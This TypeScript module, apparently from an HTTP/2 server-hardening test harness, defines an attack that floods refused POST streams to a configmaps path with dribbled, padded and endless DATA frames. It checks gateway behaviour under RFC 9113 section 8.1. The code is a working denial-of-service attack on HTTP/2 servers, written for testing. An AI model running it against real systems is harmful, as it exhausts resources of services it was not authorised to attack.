// Bodies that go on behind their answer: dribbled, padded, and without an end.

import * as h2 from '../../harness/frames/h2-frames.ts'
import type { Attack } from '../attack.ts'
import { attackHttp2, closedLoop, head, request } from '../wire/http2.ts'

const STREAMS = 250
/** In one piece: frames of a stream, and streams. */
const FRAMES = 20
const AT_ONCE = 16

const KINDS: readonly ((stream: number) => Buffer)[] = [
  (stream) => h2.data(stream, 'x'),
  (stream) => h2.frame(h2.DATA, h2.PADDED, stream, Buffer.concat([Buffer.from([200]), Buffer.alloc(201)])),
  (stream) => h2.frame(h2.DATA, 0, stream, Buffer.alloc(2048)),
]

export const attack: Attack = {
  reference: 'RFC 9113 section 8.1, answers before the end of the request',
  does: 'goes on with the bodies of requests that were refused: byte by byte, padded, without an end',
  who: ['known', 'unknown'],
  answers: [
    '400',
    '401',
    'RST_STREAM NO_ERROR',
    'RST_STREAM STREAM_CLOSED',
    'RST_STREAM REFUSED_STREAM',
    'RST_STREAM FLOW_CONTROL_ERROR',
    'GOAWAY FLOW_CONTROL_ERROR',
    'GOAWAY STREAM_CLOSED',
  ],
  must: ['RST_STREAM NO_ERROR', 'GOAWAY ENHANCE_YOUR_CALM', 'closed'],
  run: (target, signal) =>
    attackHttp2(target, signal, {}, (connection) => {
      const open: number[] = []
      const answered = new Set<number>()
      // The gateway answers it before it reads the body.
      const path = '/api/v1/namespaces/default/configmaps'
      const post = request(head(target, 'POST', path, 'impersonate-uid', '0'), 0)
      const requests = closedLoop(connection, STREAMS, (stream) => {
        open.push(stream)
        return Buffer.concat([post(stream), h2.windowUpdate(stream, 1)])
      })
      const rest = (): Buffer => {
        const frames: Buffer[] = []
        for (const stream of open.splice(0, AT_ONCE)) {
          open.push(stream)
          const kind = KINDS[stream % KINDS.length]
          for (let i = 0; kind !== undefined && i < FRAMES; i++) frames.push(kind(stream))
        }
        return Buffer.concat(frames)
      }
      return {
        next: () => requests.next?.() ?? (open.length > 0 ? rest() : undefined),
        head: (stream) => void answered.add(stream),
        ended(stream) {
          // END_STREAM of the answer; its body goes on until RST_STREAM.
          if (answered.delete(stream)) return
          const at = open.indexOf(stream)
          if (at >= 0) open.splice(at, 1)
          requests.ended?.(stream)
        },
      }
    }),
}
